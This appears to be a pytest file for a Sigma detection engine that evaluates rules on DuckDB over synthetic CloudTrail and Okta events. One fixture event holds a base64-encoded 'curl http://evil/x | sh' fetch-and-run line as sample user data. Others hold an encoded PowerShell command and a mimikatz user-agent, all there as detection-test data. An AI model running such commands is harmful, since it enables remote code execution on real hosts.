"""Sigma semantics executed on real DuckDB over a real lake built by the real parsers."""

from __future__ import annotations

import base64
import datetime as dt
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from mantissa.detect.dialects import render
from mantissa.detect.engine import DetectionEngine
from mantissa.detect.rules import RuleIndex
from tests.detect.conftest import ingest_events

ACCT = "111122223333"
T0 = dt.datetime(2026, 11, 1, 10, 0, tzinfo=dt.UTC)


def ct(
    eid: str,
    name: str,
    *,
    minutes: float = 0,
    ip: str = "198.51.100.23",
    user: str = "alice",
    ua: str = "aws-cli/2.15",
    req: Any = None,
    err: str | None = None,
    itype: str = "IAMUser",
    issuer: str | None = None,
) -> dict[str, Any]:
    ident: dict[str, Any] = {
        "type": itype,
        "principalId": "AID1",
        "arn": f"arn:aws:iam::{ACCT}:user/{user}",
        "accountId": ACCT,
        "userName": user,
    }
    if issuer:
        ident["sessionContext"] = {"sessionIssuer": {"type": issuer, "userName": "r"}}
    ev = {
        "eventVersion": "1.09",
        "userIdentity": ident,
        "eventTime": (T0 + dt.timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z"),
        "eventSource": "iam.amazonaws.com",
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": ip,
        "userAgent": ua,
        "requestParameters": req,
        "responseElements": None,
        "eventID": eid,
        "eventType": "AwsApiCall",
        "recipientAccountId": ACCT,
    }
    if err:
        ev["errorCode"] = err
    return ev


EVENTS = [
    ct("e1", "StopLogging", ua="Boto3/1.34 Python/3.11"),
    ct("e2", "CreateUser", req={"userName": "alice", "maxResults": 500}),
    ct("e3", "Create50%_offer", ip="10.1.2.3"),
    ct("e4", "Create50xxoffer", ip="172.20.0.9", err="AccessDenied"),
    ct("e5", "ListUsers", ip="2001:db8::1", ua="python-requests/2.31", req={"maxResults": 50}),
    ct(
        "e6",
        "PutUserPolicy",
        req={"userName": "bob", "policyDocument": "x", "commandLine": "powershell /enc ZQ=="},
        issuer="Role",
    ),
    ct(
        "e7",
        "RunInstances",
        req={"userData": base64.b64encode(b"#!/bin/sh\ncurl http://evil/x | sh").decode()},
    ),
    ct("e8", "GetUser", ua="mimikatz-like-tool/1.0"),
]


@pytest.fixture
def lake(rt):  # type: ignore[no-untyped-def]
    s = ingest_events(rt, "cloudtrail", EVENTS)
    assert s.rejected == 0 and s.events == len(EVENTS)
    return rt


def matches(
    rt: Any,
    detection: dict[str, Any],
    tmp: Path,
    extra: dict[str, Any] | None = None,
    logsource: dict[str, str] | None = None,
) -> set[str]:
    doc = {
        "title": "t",
        "id": str(uuid.uuid4()),
        "level": "low",
        "logsource": logsource or {"product": "aws", "service": "cloudtrail"},
        "detection": detection,
        **(extra or {}),
    }
    f = tmp / f"r-{doc['id']}.yml"
    f.write_text(yaml.safe_dump(doc))
    idx = RuleIndex.load(rt, paths=[f])
    assert not idx.issues, idx.issues
    compiled = idx.compiled(idx.rules[0])
    rows = rt.engine.execute(render(compiled.match_tree(), "duckdb")).rows
    return {r[0] for r in rows}


CASES = [
    (
        "contains is case-insensitive",
        {"s": {"eventName|contains": "stoplog"}, "condition": "s"},
        {"e1"},
    ),
    (
        "plain value equality, list = OR",
        {"s": {"eventName": ["createuser", "GETUSER"]}, "condition": "s"},
        {"e2", "e8"},
    ),
    (
        "% and _ in values are literal",
        {"s": {"eventName|contains": "50%_off"}, "condition": "s"},
        {"e3"},
    ),
    ("? and * wildcards", {"s": {"eventName": "Create50??offer"}, "condition": "s"}, {"e3", "e4"}),
    (
        "escaped wildcard is literal",
        {"s": {"eventName|contains": "50\\*"}, "condition": "s"},
        set(),
    ),
    ("|cased", {"s": {"eventName|cased": "stoplogging"}, "condition": "s"}, set()),
    ("|all", {"s": {"userAgent|contains|all": ["boto3", "python"]}, "condition": "s"}, {"e1"}),
    (
        "|startswith |endswith",
        {"s": {"userAgent|startswith": "PYTHON-", "eventName|endswith": "users"}, "condition": "s"},
        {"e5"},
    ),
    (
        "|re with i flag",
        {"s": {"userAgent|re|i": "^PYTHON-requests/[0-9]+"}, "condition": "s"},
        {"e5"},
    ),
    (
        "|re is case-sensitive by default",
        {"s": {"userAgent|re": "^PYTHON"}, "condition": "s"},
        set(),
    ),
    (
        "|cidr IPv4",
        {"s": {"sourceIPAddress|cidr": ["10.0.0.0/8", "172.16.0.0/12"]}, "condition": "s"},
        {"e3", "e4"},
    ),
    ("|cidr IPv6", {"s": {"sourceIPAddress|cidr": "2001:db8::/32"}, "condition": "s"}, {"e5"}),
    ("|exists", {"s": {"errorCode|exists": True}, "condition": "s"}, {"e4"}),
    (
        "null = missing",
        {
            "s": {"requestParameters.userName": None, "eventName|startswith": "Create"},
            "condition": "s",
        },
        {"e3", "e4"},
    ),
    (
        "not on a missing field still holds",
        {
            "s": {"eventName|startswith": "Create"},
            "f": {"requestParameters.userName": "alice"},
            "condition": "s and not f",
        },
        {"e3", "e4"},
    ),
    (
        "numeric comparison on JSON",
        {"s": {"requestParameters.maxResults|gt": 100}, "condition": "s"},
        {"e2"},
    ),
    (
        "nested STRUCT path",
        {"s": {"userIdentity.sessionContext.sessionIssuer.type": "role"}, "condition": "s"},
        {"e6"},
    ),
    (
        "|fieldref",
        {"s": {"requestParameters.userName|fieldref": "userIdentity.userName"}, "condition": "s"},
        {"e2"},
    ),
    (
        "|windash",
        {"s": {"requestParameters.commandLine|windash|contains": " -enc "}, "condition": "s"},
        {"e6"},
    ),
    (
        "|base64offset|contains",
        {"s": {"requestParameters.userData|base64offset|contains": "curl http"}, "condition": "s"},
        {"e7"},
    ),
    ("keywords search the record", {"keywords": ["MIMIKATZ"], "condition": "keywords"}, {"e8"}),
    (
        "1 of / all of / parentheses",
        {
            "sel_a": {"eventName": "StopLogging"},
            "sel_b": {"eventName": "GetUser"},
            "f": {"userAgent|contains": "mimikatz"},
            "condition": "1 of sel_* and not (f)",
        },
        {"e1"},
    ),
    (
        "all of them",
        {
            "a": {"eventName|startswith": "Create"},
            "b": {"errorCode": "AccessDenied"},
            "condition": "all of them",
        },
        {"e4"},
    ),
    (
        "field absent from the schema falls back to raw (any casing)",
        {"s": {"EventType": "awsapicall", "eventName": "GetUser"}, "condition": "s"},
        {"e8"},
    ),
]


@pytest.mark.parametrize(("label", "detection", "expected"), CASES, ids=[c[0] for c in CASES])
def test_semantics(
    lake, tmp_path: Path, label: str, detection: dict[str, Any], expected: set[str]
) -> None:
    assert matches(lake, detection, tmp_path) == expected


def test_expand_placeholder_from_config(lake, tmp_path: Path) -> None:
    (lake.data_dir / "mantissa.yaml").write_text(
        "detect: {builtin_rules: false, parallelism: 1, placeholders: {admins: [alice]}}\n"
    )
    from mantissa.runtime import Runtime

    rt2 = Runtime(lake.data_dir)
    got = matches(
        rt2,
        {
            "s": {"userIdentity.userName|expand": "%admins%", "eventName": "CreateUser"},
            "condition": "s",
        },
        tmp_path,
    )
    assert got == {"e2"}


def test_okta_target_any_element(rt, tmp_path: Path) -> None:
    def ev(uid: str, targets: list[dict[str, str]]) -> dict[str, Any]:
        return {
            "uuid": uid,
            "published": "2026-11-01T10:00:00.000Z",
            "eventType": "user.session.impersonation.initiate",
            "actor": {"id": "1", "type": "User", "alternateId": "eve@example.com"},
            "outcome": {"result": "SUCCESS"},
            "target": targets,
        }

    s = ingest_events(
        rt,
        "okta",
        [
            ev(
                "o1",
                [
                    {"type": "User", "alternateId": "ann@example.com"},
                    {"type": "User", "alternateId": "root@admin.example.com"},
                ],
            ),
            ev("o2", [{"type": "User", "alternateId": "ann@example.com"}]),
        ],
    )
    assert s.rejected == 0
    got = matches(
        rt,
        {"s": {"target.alternateId|endswith": "@ADMIN.example.com"}, "condition": "s"},
        tmp_path,
        logsource={"product": "okta", "service": "okta"},
    )
    assert got == {"o1"}


def _alerts(rt: Any, tmp: Path, rule: dict[str, Any]) -> list[Any]:
    f = tmp / f"{uuid.uuid4()}.yml"
    f.write_text(yaml.safe_dump_all(rule) if isinstance(rule, list) else yaml.safe_dump(rule))
    idx = RuleIndex.load(rt, paths=[f])
    assert not idx.issues, idx.issues
    ev = DetectionEngine(rt, idx).evaluate(
        T0 - dt.timedelta(hours=1),
        T0 + dt.timedelta(hours=2),
        rules=[r for r in idx.rules if r.generate],
    )
    assert not ev.errors, ev.errors
    return ev.candidates


def test_count_by_with_timeframe(rt, tmp_path: Path) -> None:
    evs = [ct(f"a{i}", "ConsoleLogin", minutes=i, ip="185.220.101.7") for i in range(6)]
    evs += [ct(f"b{i}", "ConsoleLogin", minutes=i, ip="203.0.113.5") for i in range(3)]
    evs += [
        ct(f"c{i}", "ConsoleLogin", minutes=30 + 10 * i, ip="192.0.2.1") for i in range(6)
    ]  # spread out
    ingest_events(rt, "cloudtrail", evs)
    rule = {
        "title": "bf",
        "id": str(uuid.uuid4()),
        "level": "medium",
        "logsource": {"product": "aws", "service": "cloudtrail"},
        "detection": {
            "s": {"eventName": "ConsoleLogin"},
            "condition": "s | count() by sourceIPAddress > 4",
            "timeframe": "10m",
        },
    }
    cands = _alerts(rt, tmp_path, rule)
    assert [(c.count, c.dedup_key.split("|", 1)[1]) for c in cands] == [
        (6, "sourceIPAddress=185.220.101.7")
    ]
    assert sorted(cands[0].evidence_event_ids) == [f"a{i}" for i in range(6)]
    assert cands[0].entities["ip"] == "185.220.101.7"


def test_count_distinct_field(rt, tmp_path: Path) -> None:
    evs = [
        ct(f"s{i}", "GetSecretValue", minutes=i, user="mallory", req={"secretId": f"db/{i % 4}"})
        for i in range(8)
    ]
    evs += [
        ct(f"t{i}", "GetSecretValue", minutes=i, user="svc", req={"secretId": "db/1"})
        for i in range(8)
    ]
    ingest_events(rt, "cloudtrail", evs)
    rule = {
        "title": "d",
        "id": str(uuid.uuid4()),
        "level": "medium",
        "logsource": {"product": "aws", "service": "cloudtrail"},
        "detection": {
            "s": {"eventName": "GetSecretValue"},
            "condition": "s | count(requestParameters.secretId) by user >= 4",
        },
    }
    cands = _alerts(rt, tmp_path, rule)
    assert [c.dedup_key.split("|", 1)[1] for c in cands] == ["user=mallory"]
    assert cands[0].count == 8


def _corr_rules(ctype: str, **corr: Any) -> list[dict[str, Any]]:
    base = {"logsource": {"product": "aws", "service": "cloudtrail"}, "level": "high"}
    return [
        {
            **base,
            "title": "login",
            "id": str(uuid.uuid4()),
            "name": "login",
            "detection": {"s": {"eventName": "ConsoleLogin"}, "condition": "s"},
        },
        {
            **base,
            "title": "attach",
            "id": str(uuid.uuid4()),
            "name": "attach",
            "detection": {"s": {"eventName": "AttachUserPolicy"}, "condition": "s"},
        },
        {
            "title": f"corr {ctype}",
            "id": str(uuid.uuid4()),
            "level": "critical",
            "correlation": {
                "type": ctype,
                "group-by": ["sourceIPAddress"],
                "timespan": "1h",
                **corr,
            },
        },
    ]


@pytest.mark.parametrize(
    ("ctype", "corr", "expected_ips"),
    [
        ("event_count", {"rules": ["login"], "condition": {"gte": 3}}, {"185.220.101.7"}),
        (
            "value_count",
            {"rules": ["login"], "condition": {"gte": 2, "field": "userIdentity.userName"}},
            {"185.220.101.7"},
        ),
        ("temporal", {"rules": ["login", "attach"]}, {"185.220.101.7", "203.0.113.5"}),
        ("temporal_ordered", {"rules": ["login", "attach"]}, {"185.220.101.7"}),
    ],
)
def test_correlation_rules(
    rt, tmp_path: Path, ctype: str, corr: dict[str, Any], expected_ips: set[str]
) -> None:
    evs = [
        ct("l1", "ConsoleLogin", minutes=0, ip="185.220.101.7", user="a"),
        ct("l2", "ConsoleLogin", minutes=1, ip="185.220.101.7", user="b"),
        ct("l3", "ConsoleLogin", minutes=2, ip="185.220.101.7", user="a"),
        ct("p1", "AttachUserPolicy", minutes=5, ip="185.220.101.7"),
        # attach BEFORE login from this IP: temporal yes, ordered no
        ct("p2", "AttachUserPolicy", minutes=0, ip="203.0.113.5"),
        ct("l4", "ConsoleLogin", minutes=10, ip="203.0.113.5"),
    ]
    ingest_events(rt, "cloudtrail", evs)
    cands = _alerts(rt, tmp_path, _corr_rules(ctype, **corr))
    got = {
        c.dedup_key.split("sourceIPAddress=")[1] for c in cands if c.rule_title.startswith("corr")
    }
    assert got == expected_ips


def test_packed_scan_equals_rule_by_rule(rt, tmp_path: Path) -> None:
    """Plain rules and aggregations sharing one scan give exactly the per-rule results."""
    from mantissa.detect.rules import BUILTIN_DIR
    from mantissa.detect.samples import samples_path

    paths = sorted(
        p for p in (BUILTIN_DIR / "cloudtrail").glob("*.yml") if not p.name.endswith(".samples.yml")
    )
    events = []
    for p in paths:
        events += yaml.safe_load(samples_path(type("R", (), {"path": str(p)})()).read_text())[
            "match"
        ]
    ingest_events(rt, "cloudtrail", events)
    idx = RuleIndex.load(rt, paths=paths)
    results = {}
    for pack in (True, False):
        eng = DetectionEngine(rt, idx)
        eng.cfg.pack_rules = pack
        ev = eng.evaluate(T0 - dt.timedelta(days=1), T0 + dt.timedelta(days=2), rules=idx.rules)
        assert not ev.errors, ev.errors
        results[pack] = sorted(
            (c.rule_id, c.dedup_key, c.count, tuple(sorted(c.evidence_event_ids)))
            for c in ev.candidates
        )
        if pack:
            assert len(ev.units) == 2  # one scan for every rule on the table + the correlation
    assert results[True] == results[False]
    assert len({r[0] for r in results[True]}) == len(paths)  # every rule fired on its samples


def test_window_prunes_partitions(rt, tmp_path: Path) -> None:
    """A 5-minute window reads one hour's files, for packed scans and aggregations alike."""
    evs = [ct(f"h{i}", "StopLogging", minutes=60 * i) for i in range(6)]
    ingest_events(rt, "cloudtrail", evs)
    paths = sorted(
        p
        for p in (Path(__file__).parents[2] / "src/mantissa/rules/sigma/cloudtrail").glob("*.yml")
        if not p.name.endswith(".samples.yml")
    )
    idx = RuleIndex.load(rt, paths=paths)
    from mantissa.detect.query import pack, unit_tree

    units = pack([idx.compiled(r) for r in idx.rules])
    start = T0 + dt.timedelta(hours=2, minutes=1)
    for unit in units:
        sql = render(unit_tree(unit, start, start + dt.timedelta(minutes=5)), "duckdb")
        est = rt.engine.estimate_cost(sql)
        assert est.files == 1, (est.to_dict(), [c.rule.title for c in unit])
        assert "hour" in rt.engine.prepare(sql)
